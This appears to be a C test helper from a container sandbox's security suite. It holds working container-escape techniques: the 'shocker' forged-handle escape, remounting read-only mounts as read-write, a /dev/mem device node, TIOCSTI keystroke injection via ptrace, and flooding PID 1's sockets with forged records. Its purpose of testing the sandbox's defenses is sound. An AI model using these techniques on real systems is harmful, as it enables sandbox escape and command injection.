/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * attack: one escape attempt per run, for the security tests; run inside a container
 * (bound in read-only, e.g. --bind-ro=.../attack:/attack). Built static: a busybox tree
 * has no libc.
 *   attack clear-ro PATH            mount_setattr(AT_FDCWD, PATH, 0, attr_clr RDONLY)
 *   attack remount-rw PATH          mount(NULL, PATH, NULL, MS_REMOUNT|MS_BIND|FLAGS), FLAGS
 *                                   being PATH's other flags (nosuid, nodev, noexec, atime)
 *                                   as statvfs reports them, so that only "ro" is dropped
 *   attack remount-sb-rw PATH       mount(NULL, PATH, NULL, MS_REMOUNT|FLAGS): the same
 *                                   without MS_BIND, which makes the file system itself
 *                                   (its superblock, e.g. a sysfs mounted ro) read-write
 *   attack umount PATH              umount2(PATH, MNT_DETACH)
 *   attack write FILE [TEXT]        open(O_WRONLY|O_CREAT, 0644) and write TEXT (default
 *                                   "nsb-attack\n") at offset 0
 *   attack tiocsti FD [TEXT]        ioctl(FD, TIOCSTI) for each byte of TEXT
 *   attack ptrace-tiocsti PID [TEXT]
 *                                   makes process PID itself issue ioctl(0, TIOCSTI) for each
 *                                   byte of TEXT: PTRACE_SEIZE + PTRACE_INTERRUPT, its
 *                                   registers pointed at a syscall instruction with the
 *                                   ioctl's number and arguments (the byte written below its
 *                                   stack pointer), one PTRACE_SINGLESTEP per byte, then
 *                                   its registers and memory put back and PTRACE_DETACH
 *                                   (x86-64 only)
 *   attack mknod PATH               mknod(PATH, S_IFCHR|0600, makedev(1, 1)), /dev/mem's
 *                                   numbers; when made, it is opened too (said, not judged)
 *   attack open-by-handle PATH      name_to_handle_at(PATH), then a handle forged for inode
 *                                   2 generation 0 (an ext2/3/4 file system's root) of the
 *                                   same file system, opened with open_by_handle_at on an fd
 *                                   of PATH: the "shocker" escape out of a bind mount
 *   attack mount-proc DIR           mount("proc", DIR, "proc", nosuid,nodev,noexec), not ro
 *   attack mount-sysfs DIR          mount("sysfs", DIR, "sysfs", nosuid,nodev,noexec), not ro
 *                                   (DIR is made when missing; a mount made is unmounted)
 *   attack flood-channel N          takes PID 1's sockets with pidfd_getfd (the container's
 *                                   root may ptrace its PID 1) and sends N malformed records
 *                                   and N ERROR records carrying terminal escapes and a
 *                                   forged second line on each SEQPACKET one: the spawner's
 *                                   channel (its queue full, it waits and goes on)
 *   attack pending FD               not an attack, the caller's side of the TIOCSTI tests:
 *                                   prints the number of bytes waiting in the input queue of
 *                                   the terminal on FD (FIONREAD); exit 0, or 2 when FD is
 *                                   no terminal
 * Output: one line, "attack VERB ARG: SUCCEEDED[ (detail)]" or
 * "attack VERB ARG: refused: ENAME (strerror)[ (detail)]".
 * Exit: 0 when the attack succeeded, 1 when the kernel refused it, 2 when it could not be
 * tried (usage, an unsupported architecture or file system).
 */
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <dirent.h>
#include <unistd.h>
#if defined(__x86_64__)
#include <sys/user.h>
#endif

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#ifndef MOUNT_ATTR_RDONLY
#define MOUNT_ATTR_RDONLY 0x00000001
#endif
#ifndef MNT_DETACH
#define MNT_DETACH 2
#endif
#ifndef PTRACE_SEIZE
#define PTRACE_SEIZE 0x4206
#endif
#ifndef PTRACE_INTERRUPT
#define PTRACE_INTERRUPT 0x4207
#endif
#ifndef PTRACE_EVENT_STOP
#define PTRACE_EVENT_STOP 128
#endif
#ifndef MAX_HANDLE_SZ
#define MAX_HANDLE_SZ 128
#endif

struct nsb_mount_attr {
	uint64_t attr_set, attr_clr, propagation, userns_fd;
};

struct nsb_handle {
	unsigned int handle_bytes;
	int handle_type;
	unsigned char f_handle[MAX_HANDLE_SZ];
};

static const char *verb, *arg;

static const char *errname(int e)
{
	switch (e) {
	case EPERM: return "EPERM";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	case EIO: return "EIO";
	case EBADF: return "EBADF";
	case EACCES: return "EACCES";
	case EFAULT: return "EFAULT";
	case EBUSY: return "EBUSY";
	case EEXIST: return "EEXIST";
	case EXDEV: return "EXDEV";
	case ENODEV: return "ENODEV";
	case ENOTDIR: return "ENOTDIR";
	case EISDIR: return "EISDIR";
	case EINVAL: return "EINVAL";
	case ENOTTY: return "ENOTTY";
	case ETXTBSY: return "ETXTBSY";
	case EROFS: return "EROFS";
	case ENOSYS: return "ENOSYS";
	case EOPNOTSUPP: return "EOPNOTSUPP";
	case ESTALE: return "ESTALE";
	default: return "E?";
	}
}

/* The attack worked: one line, exit 0. */
static int succeeded(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static int succeeded(const char *fmt, ...)
{
	printf("attack %s %s: SUCCEEDED", verb, arg);
	if (fmt && *fmt) {
		va_list ap;
		va_start(ap, fmt);
		printf(" (");
		vprintf(fmt, ap);
		printf(")");
		va_end(ap);
	}
	printf("\n");
	return 0;
}

/* The kernel said no with errno E: one line, exit 1. */
static int refused(int e, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static int refused(int e, const char *fmt, ...)
{
	printf("attack %s %s: refused: %s (%s)", verb, arg, errname(e), strerror(e));
	if (fmt && *fmt) {
		va_list ap;
		va_start(ap, fmt);
		printf(" (");
		vprintf(fmt, ap);
		printf(")");
		va_end(ap);
	}
	printf("\n");
	return 1;
}

/* Not tried: one line, exit 2. */
static int untried(const char *why)
{
	printf("attack %s %s: not tried: %s\n", verb, arg, why);
	return 2;
}

static int clear_ro(const char *path)
{
	struct nsb_mount_attr a = { .attr_clr = MOUNT_ATTR_RDONLY };
	if (syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &a, sizeof a) < 0)
		return refused(errno, NULL);
	return succeeded(NULL);
}

static int remount_rw(const char *path, unsigned long bind)
{
	struct statvfs v;
	if (statvfs(path, &v) < 0)
		return refused(errno, "statvfs");
	unsigned long flags = MS_REMOUNT | bind;
	if (v.f_flag & ST_NOSUID)
		flags |= MS_NOSUID;
	if (v.f_flag & ST_NODEV)
		flags |= MS_NODEV;
	if (v.f_flag & ST_NOEXEC)
		flags |= MS_NOEXEC;
	if (v.f_flag & ST_NOATIME)
		flags |= MS_NOATIME;
	if (v.f_flag & ST_NODIRATIME)
		flags |= MS_NODIRATIME;
#ifdef ST_RELATIME
	if (v.f_flag & ST_RELATIME)
		flags |= MS_RELATIME;
#endif
	if (mount(NULL, path, NULL, flags, NULL) < 0)
		return refused(errno, NULL);
	/* (a file system that is read-only itself, a sysfs mounted ro, stays so under a
	 * read-write mount: the write that follows tells) */
	return succeeded(NULL);
}

static int do_umount(const char *path)
{
	if (umount2(path, MNT_DETACH) < 0)
		return refused(errno, NULL);
	return succeeded(NULL);
}

static int do_write(const char *file, const char *text)
{
	int fd = open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd < 0)
		return refused(errno, "open");
	size_t len = strlen(text);
	ssize_t n = write(fd, text, len);
	int e = errno;
	close(fd);
	if (n < 0)
		return refused(e, "write");
	if ((size_t)n != len)
		return refused(EIO, "short write of %zd bytes", n);
	return succeeded("%zu bytes written", len);
}

static int tiocsti(int fd, const char *text)
{
	for (const char *c = text; *c; c++)
		if (ioctl(fd, TIOCSTI, c) < 0)
			return refused(errno, "after %d bytes", (int)(c - text));
	return succeeded("%zu bytes pushed into the terminal's input", strlen(text));
}

#if defined(__x86_64__)
/* Waits for a ptrace stop of PID; 0 or an errno (the status in *ST). */
static int wait_stop(pid_t pid, int *st)
{
	if (waitpid(pid, st, __WALL) < 0)
		return errno;
	return WIFSTOPPED(*st) ? 0 : ESRCH;
}

static int ptrace_tiocsti(pid_t pid, const char *text)
{
	int st;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return refused(errno, "PTRACE_SEIZE");
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0) {
		int e = errno;
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return refused(e, "PTRACE_INTERRUPT");
	}
	int e = wait_stop(pid, &st);
	if (e)
		return refused(e, "waiting for the stop");
	struct user_regs_struct saved, r;
	if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) {
		e = errno;
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return refused(e, "PTRACE_GETREGS");
	}
	/* a syscall instruction: the one the target stopped after (it waits in poll), else
	 * one written at its pc for the time of the attack */
	errno = 0;
	unsigned long long at = saved.rip - 2;
	long before = ptrace(PTRACE_PEEKTEXT, pid, (void *)at, 0);
	long patched_word = 0;
	int patched = 0;
	if (errno != 0 || (before & 0xffff) != 0x050f) {
		at = saved.rip;
		errno = 0;
		patched_word = ptrace(PTRACE_PEEKTEXT, pid, (void *)at, 0);
		if (errno != 0 ||
		    ptrace(PTRACE_POKETEXT, pid, (void *)at, (void *)((patched_word & ~0xffffL) | 0x050f)) < 0) {
			e = errno ? errno : EIO;
			ptrace(PTRACE_DETACH, pid, 0, 0);
			return refused(e, "writing a syscall instruction");
		}
		patched = 1;
	}
	/* the byte to push lives below the stack pointer (and its red zone) */
	unsigned long long buf = (saved.rsp - 512) & ~7ULL;
	errno = 0;
	long buf_word = ptrace(PTRACE_PEEKDATA, pid, (void *)buf, 0);
	if (errno != 0) {
		e = errno;
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return refused(e, "PTRACE_PEEKDATA");
	}
	long long result = 0;
	int done = 0;
	e = 0;
	for (const char *c = text; *c; c++) {
		if (ptrace(PTRACE_POKEDATA, pid, (void *)buf, (void *)((buf_word & ~0xffL) | (unsigned char)*c)) < 0) {
			e = errno;
			break;
		}
		r = saved;
		r.rip = at;
		r.rax = SYS_ioctl;
		r.orig_rax = (unsigned long long)-1; /* no restart of the interrupted call */
		r.rdi = 0;
		r.rsi = TIOCSTI;
		r.rdx = buf;
		if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0) {
			e = errno;
			break;
		}
		if ((e = wait_stop(pid, &st)) != 0)
			break;
		if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) {
			e = errno;
			break;
		}
		result = (long long)r.rax;
		if (result < 0)
			break;
		done++;
	}
	/* put everything back: memory, registers (the interrupted poll restarts), detach */
	ptrace(PTRACE_POKEDATA, pid, (void *)buf, (void *)buf_word);
	if (patched)
		ptrace(PTRACE_POKETEXT, pid, (void *)at, (void *)patched_word);
	ptrace(PTRACE_SETREGS, pid, 0, &saved);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	if (e)
		return refused(e, "ptrace failed after %d bytes", done);
	if (result < 0)
		return refused((int)-result, "the target's ioctl(0, TIOCSTI) after %d bytes", done);
	return succeeded("process %d pushed %d bytes into its terminal's input", (int)pid, done);
}
#else
static int ptrace_tiocsti(pid_t pid, const char *text)
{
	(void)pid;
	(void)text;
	return untried("the register injection is written for x86-64 only");
}
#endif

static int do_mknod(const char *path)
{
	if (mknod(path, S_IFCHR | 0600, makedev(1, 1)) < 0)
		return refused(errno, NULL);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	int e = errno;
	if (fd >= 0)
		close(fd);
	unlink(path);
	return succeeded("the node was made; opening it %s%s", fd >= 0 ? "worked" : "failed: ",
			 fd >= 0 ? "" : strerror(e));
}

static int open_by_handle(const char *path)
{
	struct nsb_handle h = { .handle_bytes = MAX_HANDLE_SZ };
	int mnt_id;
	if (syscall(SYS_name_to_handle_at, AT_FDCWD, path, &h, &mnt_id, 0) < 0)
		return refused(errno, "name_to_handle_at");
	int mfd = open(path, O_RDONLY | O_CLOEXEC);
	if (mfd < 0)
		return refused(errno, "open");
	/* first the genuine handle (said, not judged: inside the mount it is no escape) */
	char own[96];
	int fd = (int)syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		snprintf(own, sizeof own, "its own handle opened");
		close(fd);
	} else {
		snprintf(own, sizeof own, "its own handle refused: %s", errname(errno));
	}
	/* FILEID_INO32_GEN: 32-bit inode and generation; ext2/3/4's root is inode 2, gen 0 */
	if (h.handle_type != 1 || h.handle_bytes < 8) {
		close(mfd);
		return untried("not an inode+generation handle (type not 1): cannot forge one");
	}
	uint32_t forged[2] = { 2, 0 };
	memcpy(h.f_handle, forged, sizeof forged);
	h.handle_bytes = 8;
	fd = (int)syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int e = errno;
	close(mfd);
	if (fd < 0)
		return refused(e, "a forged handle of the file system's root; %s", own);
	int entries = 0;
	DIR *d = fdopendir(fd);
	if (d) {
		while (readdir(d))
			entries++;
		closedir(d);
	} else {
		close(fd);
	}
	return succeeded("opened the file system's root, %d entries, by a forged handle; %s", entries, own);
}

static int mount_fs(const char *type, const char *dir)
{
	if (mkdir(dir, 0755) < 0 && errno != EEXIST)
		return refused(errno, "mkdir");
	if (mount(type, dir, type, MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) < 0)
		return refused(errno, NULL);
	struct statvfs v;
	int ro = statvfs(dir, &v) == 0 && (v.f_flag & ST_RDONLY);
	umount2(dir, MNT_DETACH);
	if (ro)
		return refused(EROFS, "mounted, but read-only");
	return succeeded("a new read-write %s mount", type);
}

/* The records a forger sends: one the decoder refuses, one ERROR whose phase and text
 * carry an escape sequence (a window title) and a newline faking nsboot's own line. */
static const char junk[] = "Z-not-a-record";
static const char forged[] = "Ephase\033]0;owned\007\0text\033[31m\nnsboot: forged line";

/* Sends N of each record on the SEQPACKET socket FD, waiting when its queue is full;
 * the number sent. */
static long flood_one(int fd, long n)
{
	long sent = 0;
	for (long i = 0; i < 2 * n; i++) {
		const char *r = i % 2 ? forged : junk;
		size_t len = i % 2 ? sizeof forged - 1 : sizeof junk - 1;
		while (send(fd, r, len, MSG_DONTWAIT | MSG_NOSIGNAL) < 0) {
			if (errno != EAGAIN)
				return sent;
			struct pollfd p = { .fd = fd, .events = POLLOUT };
			if (poll(&p, 1, 2000) <= 0)
				return sent;
		}
		sent++;
	}
	return sent;
}

static int flood_channel(long n)
{
	int pfd = (int)syscall(SYS_pidfd_open, 1, 0);
	if (pfd < 0)
		return refused(errno, "pidfd_open(1)");
	DIR *d = opendir("/proc/1/fd");
	if (!d)
		return untried("no /proc/1/fd");
	long sent = 0;
	int err = 0;
	struct dirent *e;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		int fd = (int)syscall(SYS_pidfd_getfd, pfd, atoi(e->d_name), 0);
		if (fd < 0) {
			err = errno;
			continue;
		}
		int type = 0;
		socklen_t tl = sizeof type;
		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &tl) == 0 && type == SOCK_SEQPACKET)
			sent += flood_one(fd, n);
		close(fd);
	}
	closedir(d);
	if (!sent)
		return err ? refused(err, "pidfd_getfd") : untried("no SEQPACKET socket in PID 1");
	return succeeded("%ld records sent", sent);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 3) {
		fprintf(stderr, "usage: attack VERB ARG [TEXT]\n");
		return 2;
	}
	verb = argv[1];
	arg = argv[2];
	const char *text = argc > 3 ? argv[3] : NULL;
	if (strcmp(verb, "clear-ro") == 0)
		return clear_ro(arg);
	if (strcmp(verb, "remount-rw") == 0)
		return remount_rw(arg, MS_BIND);
	if (strcmp(verb, "remount-sb-rw") == 0)
		return remount_rw(arg, 0);
	if (strcmp(verb, "umount") == 0)
		return do_umount(arg);
	if (strcmp(verb, "write") == 0)
		return do_write(arg, text ? text : "nsb-attack\n");
	if (strcmp(verb, "tiocsti") == 0)
		return tiocsti(atoi(arg), text ? text : ": nsb-injected\n");
	if (strcmp(verb, "ptrace-tiocsti") == 0)
		return ptrace_tiocsti((pid_t)atoi(arg), text ? text : ": nsb-injected\n");
	if (strcmp(verb, "flood-channel") == 0)
		return flood_channel(atol(arg));
	if (strcmp(verb, "pending") == 0) {
		int n = 0;
		if (ioctl(atoi(arg), FIONREAD, &n) < 0) {
			printf("attack pending %s: %s\n", arg, strerror(errno));
			return 2;
		}
		printf("%d\n", n);
		return 0;
	}
	if (strcmp(verb, "mknod") == 0)
		return do_mknod(arg);
	if (strcmp(verb, "open-by-handle") == 0)
		return open_by_handle(arg);
	if (strcmp(verb, "mount-proc") == 0)
		return mount_fs("proc", arg);
	if (strcmp(verb, "mount-sysfs") == 0)
		return mount_fs("sysfs", arg);
	fprintf(stderr, "attack: unknown verb '%s'\n", verb);
	return 2;
}
